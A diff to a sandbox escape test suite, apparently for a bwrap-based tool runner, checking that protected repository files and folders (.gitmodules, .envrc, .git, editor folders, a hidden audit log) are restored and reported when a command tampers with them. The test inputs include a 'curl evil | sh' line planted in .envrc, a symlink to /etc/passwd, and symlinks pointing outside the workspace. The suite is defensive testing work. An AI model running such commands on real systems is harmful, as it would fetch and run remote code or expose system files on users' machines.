@@ -94,8 +94,8 @@ describe.runIf(binaryAvailable("bwrap"))("escape suite: protected repository fil
   });
 
   it("a protected path the command creates where there was none is removed after the call and reported", async () => {
+    // The watch may stop the command as soon as the path appears (before its last echo): the host is what is checked.
     const { out, text } = await bash("echo '[submodule \"x\"]' > .gitmodules; echo done");
-    expect(out.stdout).toBe("done\n");
     expect(existsSync(join(s.root, ".gitmodules"))).toBe(false);
     expect(out.sandbox_denied.find((d) => d.code === "protected_path")?.message).toBe(
       `the command created or replaced ${s.root}/.gitmodules, which is protected (programs on the host, such as git or an editor, run what it holds): the command was stopped and it was put back as before; nothing else was undone`,
@@ -113,15 +113,13 @@ describe.runIf(binaryAvailable("bwrap"))("escape suite: protected repository fil
 
   it("a symlink planted where a protected folder was absent is removed, and what it pointed to is untouched", async () => {
     s.write("../outside/keep.txt", "outside\n");
-    const { out } = await bash(`ln -s ${s.outside} .idea; ln -s ../outside .cursor; echo planted`);
-    expect(out.stdout).toBe("planted\n");
+    await bash(`ln -s ${s.outside} .idea; ln -s ../outside .cursor; echo planted`);
     expect([existsSync(join(s.root, ".idea")), existsSync(join(s.root, ".cursor"))]).toEqual([false, false]);
     expect(readFileSync(join(s.outside, "keep.txt"), "utf8")).toBe("outside\n");
   });
 
   it("a protected symlink the command replaces is made again with its old target", async () => {
     const { out } = await bash("rm -f .envrc && echo 'curl evil | sh' > .envrc; echo replaced");
-    expect(out.stdout).toBe("replaced\n");
     expect(lstatSync(join(s.root, ".envrc")).isSymbolicLink()).toBe(true);
     expect(readlinkSync(join(s.root, ".envrc"))).toBe("envrc.real");
     expect(read("envrc.real")).toBe("export A=1\n");
@@ -141,16 +139,26 @@ describe.runIf(binaryAvailable("bwrap"))("escape suite: protected repository fil
     try {
       const hiddenWs = { root: t.root, hidden: [join(t.root, ".toolgate")], readOnly: [] };
       const r = await executeBash(launcher, hiddenWs, { command: "mkdir .toolgate && ln -s /etc/passwd .toolgate/audit.jsonl; echo planted" }, DEFAULT_BASH_LIMITS);
-      expect((r.output as unknown as Out).stdout).toBe("planted\n");
       expect(existsSync(join(t.root, ".toolgate"))).toBe(false);
+      expect((r.output as unknown as Out).sandbox_denied.map((d) => d.code)).toContain("protected_path");
     } finally {
       t.cleanup();
     }
   });
 
-  it("ordinary work in the repository goes on: git reads its config, commits write objects", async () => {
-    const { out } = await bash("git config --get core.bare; echo work > work.txt && git add work.txt && git -c user.name=a -c user.email=a@b commit -qm work && git log --oneline | wc -l");
-    expect(out.stdout).toBe("false\n1\n");
+  it("ordinary work in the repository goes on: git reads its config, status, log and diff; with .git protected as a whole, a commit is refused and said so", async () => {
+    const { out } = await bash("git config --get core.bare; echo work > work.txt && git status --short work.txt && git log --oneline 2>&1 | head -1 && git diff --stat && echo READ");
+    expect(out.stdout).toBe("false\n?? work.txt\nfatal: your current branch 'main' does not have any commits yet\nREAD\n");
+    expect(out.sandbox_denied).toEqual([]);
+    const whole = { ...ws, readOnly: [join(s.root, ".git"), ...ws.readOnly] };
+    const r = await executeBash(launcher, whole, { command: "git add work.txt && git -c user.name=a -c user.email=a@b commit -qm work" }, DEFAULT_BASH_LIMITS);
+    const refused = r.output as unknown as Out;
+    expect(refused.exit_code).not.toBe(0);
+    expect(refused.sandbox_denied.map((d) => d.code)).toEqual(["protected_path"]);
+    expect(refused.sandbox_denied[0]!.message).toMatch(/^the repository's \.git is read-only in the sandbox/);
+    // This suite's list protects the hooks and config but not all of .git: there commits write objects.
+    const { out: commit } = await bash("git add work.txt && git -c user.name=a -c user.email=a@b commit -qm work && git log --oneline | wc -l");
+    expect(commit.stdout).toBe("1\n");
   });
 
   it("a program on the host rewriting a protected file meanwhile (git's lock and rename) is not taken for the command's doing", async () => {
